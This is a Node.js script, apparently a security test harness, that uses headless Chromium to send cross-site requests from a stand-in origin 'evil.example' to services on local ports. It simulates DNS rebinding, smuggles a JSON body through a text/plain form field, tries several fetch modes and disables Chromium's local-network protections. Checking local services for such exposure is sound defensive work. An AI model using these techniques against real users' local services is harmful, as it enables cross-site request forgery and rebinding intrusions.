// Opens a foreign page in a headless Chromium, sends requests to ports of this machine in every way that pages can, and
// prints, as JSON, the statuses of the responses and what the page could read.
//
//     node attack.mjs '[{"port": 4566, "path": "/", "body": "{}", "headers": {}}]'
//
// Each request is sent from http://evil.example, and from http://evil.example:PORT, whose name resolves to 127.0.0.1, as
// in DNS rebinding. The pages themselves are intercepted, so that no server is needed for them.
import { launch } from "../report/chromium.mjs";

const PAGE = "/attack.html";
const PATIENCE = 10_000;

// Runs in the page. A text/plain form ends in name=value, which makes it one more member of the JSON.
async function send({ port, path, body, headers }, way, host, patience) {
  const url = `http://${host}:${port}${path}`;
  if (way === "form") {
    const form = document.body.appendChild(document.createElement("form"));
    const field = form.appendChild(document.createElement("input"));
    Object.assign(form, { method: "post", enctype: "text/plain", action: url, target: "answer" });
    field.name = body.replace(/\}$/, `${body === "{}" ? "" : ","}"more":"`);
    field.value = '"}';
    const frame = document.createElement("iframe");
    frame.name = "answer";
    document.body.appendChild(frame);
    form.submit();
    await new Promise((loaded) => {
      frame.addEventListener("load", loaded);
      setTimeout(loaded, patience);
    });
    try {
      return frame.contentDocument.body.innerText;
    } catch {
      return null;
    }
  }
  const options = {
    text: { method: "POST", body, headers: { "Content-Type": "text/plain" } },
    nocors: { method: "POST", body, mode: "no-cors", headers: { "Content-Type": "text/plain" } },
    untyped: { method: "POST", body: new Blob([body]) },
    headers: { method: "POST", body, headers },
    get: { method: "GET" },
  }[way];
  try {
    return await (await fetch(url, { ...options, signal: AbortSignal.timeout(patience) })).text();
  } catch (error) {
    return error.name === "TimeoutError" ? error.name : null;
  }
}

async function attack(browser, request, origin, host) {
  const page = await browser.newPage();
  const seen = {};
  let way;
  await page.setRequestInterception(true);
  page.on("request", (outgoing) => {
    if (outgoing.url().endsWith(PAGE)) outgoing.respond({ contentType: "text/html", body: "<!doctype html><body>" });
    else outgoing.continue();
  });
  const mine = (url) => url.endsWith(`:${request.port}${request.path}`);
  page.on("response", (answer) => mine(answer.url()) && seen[way].statuses.push(answer.status()));
  // Includes responses that the browser hides from the page.
  const urls = {};
  const network = await page.createCDPSession();
  await network.send("Network.enable");
  network.on("Network.requestWillBeSent", (sent) => (urls[sent.requestId] = sent.request.url));
  network.on("Network.responseReceivedExtraInfo", (answer) => {
    if (mine(urls[answer.requestId] ?? "")) seen[way].statuses.push(answer.statusCode);
  });
  await page.goto(`${origin}${PAGE}`);
  for (way of ["form", "text", "nocors", "untyped", "headers", "get"]) {
    seen[way] = { statuses: [] };
    seen[way].read = await page.evaluate(send, request, way, host, PATIENCE);
    // The browser's events may arrive after the response. A request that it does not send has none.
    const until = Date.now() + (way === "headers" ? 100 : PATIENCE);
    do await new Promise((passed) => setTimeout(passed, 100));
    while (!seen[way].statuses.length && Date.now() < until);
  }
  await page.close();
  return seen;
}

const browser = await launch(
  "--host-resolver-rules=MAP evil.example 127.0.0.1",
  // Recent versions of Chromium block pages from the loopback interface. Other browsers do not, and users may allow it.
  "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
);
try {
  const seen = [];
  for (const request of JSON.parse(process.argv[2])) {
    seen.push({
      foreign: await attack(browser, request, "http://evil.example", "127.0.0.1"),
      rebound: await attack(browser, request, `http://evil.example:${request.port}`, "evil.example"),
    });
  }
  process.stdout.write(JSON.stringify(seen));
} finally {
  await browser.close();
}
